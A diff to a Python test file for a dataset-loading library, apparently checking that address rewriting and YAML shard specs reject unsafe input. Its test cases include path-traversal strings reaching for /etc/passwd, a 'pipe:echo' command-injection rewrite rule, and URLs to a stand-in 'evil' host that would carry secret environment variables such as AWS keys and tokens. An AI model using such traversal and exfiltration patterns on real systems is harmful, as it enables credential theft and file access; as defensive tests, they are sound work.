@@ -52,7 +52,8 @@ PLACES = [
     ("MEMORY", "memory://home/a.tar", "memory://elsewhere/a.tar", "memory://home/"),
     *(("WEB", f"{s}://home/a.tar", f"{s}://elsewhere/a.tar", f"{s}://home/x/") for s in ("http", "https", "HTTPS")),
     *(("CLOUD", f"{s}://home/a.tar", f"{s}://elsewhere/a.tar", f"{s}://home/x/")
-      for s in ("s3", "s3a", "gs", "az", "azure", "abfs", "abfss", "hf", "ais")),
+      for s in ("s3", "s3a", "gs", "az", "azure", "abfs", "abfss", "ais")),
+    ("CLOUD", "hf://datasets/me/home/a.tar", "hf://datasets/me/elsewhere/a.tar", "hf://datasets/me/home@v1/x/"),
     *(("OTHER", f"{s}://home/a.tar", f"{s}://elsewhere/a.tar", f"{s}://home/x/")
       for s in ("sftp", "ssh", "ftp", "hdfs", "github", "mine")),
     *(("WRAPPER", f"{s}://home/a.tar", f"{s}://elsewhere/a.tar", f"{s}://home/x/")
@@ -319,8 +320,14 @@ def test_rewriting_of_a_listing_or_a_yaml_spec(scene, monkeypatch, tmp_path):
         with pytest.raises(UnsafeContent):
             stores.open_read(url)
     assert stores.is_local(Address("memory://x/a.tar", Birth.SPEC)) == "/mnt/a.tar"
-    with pytest.raises(UnsafeContent):
-        stores.is_local(Address("memory://x/../etc/passwd", Birth.SPEC))
+    for rule in ("memory://x/=/mnt/", "memory://x/=file:/mnt/", "memory://x/=file:///mnt/", "memory://x/=s3://b/"):
+        monkeypatch.setenv("GOPEN_REWRITE", rule)
+        for way_out in ("..", "y/..", "y/../..", "%2e%2e", "%2E.", "y%2f..%2f..", "y%2F%2e%2e"):
+            if "%" in way_out and "file:" not in rule:
+                continue  # an ordinary name
+            with pytest.raises(UnsafeContent):
+                stores.is_local(Address(f"memory://x/{way_out}/etc/passwd", Birth.SPEC))
+    monkeypatch.setenv("GOPEN_REWRITE", "http://=pipe:echo ;/=pipe:echo ")
     assert [read(path) for path in local if "local" in path] == [b"file"]  # a path is never rewritten
 
 
@@ -342,19 +349,26 @@ def test_the_text_of_an_address_is_harmless_when_its_type_is_lost(scene):
     assert not (scene.data / "marker").exists()
 
 
-def test_environment_variables_do_not_leave_in_addresses(scene, monkeypatch):
+SECRET_VARIABLES = {
+    **dict.fromkeys(("AWS_SECRET_ACCESS_KEY", "HF_TOKEN", "PGPASS", "MYKEY", "GITHUB_PAT", "NPM_AUTH", "a.secret"), "s3cret"),
+    **dict.fromkeys(("HTTPS_PROXY", "DATABASE_URL"), "http://me:s3cret@h/"),
+    "PLAIN": "ghp_abcdefghijklmnop",
+    "WDS_HTTP_HEADERS": '{"https://h/": {"X-Own": "s3cret"}}',
+}  # fmt: skip
+
+
+@pytest.mark.parametrize("name", SECRET_VARIABLES)
+def test_environment_variables_do_not_leave_in_addresses(scene, monkeypatch, name):
+    """By their names, and by what they contain."""
     pytest.importorskip("yaml")
-    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", "s3cret")
-    for text in (
-        "https://evil/$AWS_SECRET_ACCESS_KEY",
-        "https://evil/${AWS_SECRET_ACCESS_KEY}/",
-        "https://evil/$HF_TOKEN",
-    ):
+    monkeypatch.setenv(name, SECRET_VARIABLES[name])
+    for text in (f"https://evil/${name}" * ("." not in name), f"https://evil/${{{name}}}/", f"$HOME/${{{name}}}"):
         for spec in ({"prefix": text}, {"buckets": [text]}, {}):
             spec = {**spec, "datasets": [{"shards": ["a.tar" if spec else text]}]}
             (scene.data / "s.yaml").write_text(json.dumps(spec))
-            with pytest.raises(UnsafeContent, match="environment variable"):
-                list(shards.parse_spec("s.yaml"))
+            if text:
+                with pytest.raises(UnsafeContent, match="environment variable"):
+                    list(shards.parse_spec("s.yaml"))
 
 
 def test_the_remedies_work(scene, monkeypatch, tmp_path):
